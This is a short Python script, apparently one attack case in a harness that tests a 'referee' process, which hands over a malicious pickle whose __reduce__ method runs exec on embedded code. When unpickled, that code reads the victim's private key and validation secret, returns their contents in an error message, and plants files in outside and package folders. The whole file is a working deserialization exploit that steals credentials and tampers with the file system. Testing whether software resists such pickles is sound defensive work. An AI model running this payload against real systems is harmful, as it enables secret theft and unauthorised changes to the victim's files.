"""Hands over a pickle that runs code when it is opened: it looks for the referee's secrets and leaves files behind."""

import pickle

from attack import VICTIM
from wire import hand_over, start

CODE = f"""
import os, sys
said = [f"opened by {{os.path.basename(sys.argv[0])}}"]
for path in ({VICTIM["private_key"]!r}, {VICTIM["validation_secret"]!r}):
    try:
        with open(path, "rb") as file:
            content = file.read()
        said.append(f"{{content!r}} {{content.hex()}}")
    except OSError as error:
        said.append(str(error))
for folder in ({VICTIM["outside"]!r}, {VICTIM["packages"]!r}):
    try:
        open(folder + "/left-by-a-pickle", "x").close()
    except OSError as error:
        said.append(str(error))
raise RuntimeError("; ".join(said))
"""


class Payload:
    def __reduce__(self):
        return exec, (CODE,)


start()
hand_over(pickle.dumps(Payload()))
raise SystemExit(0)
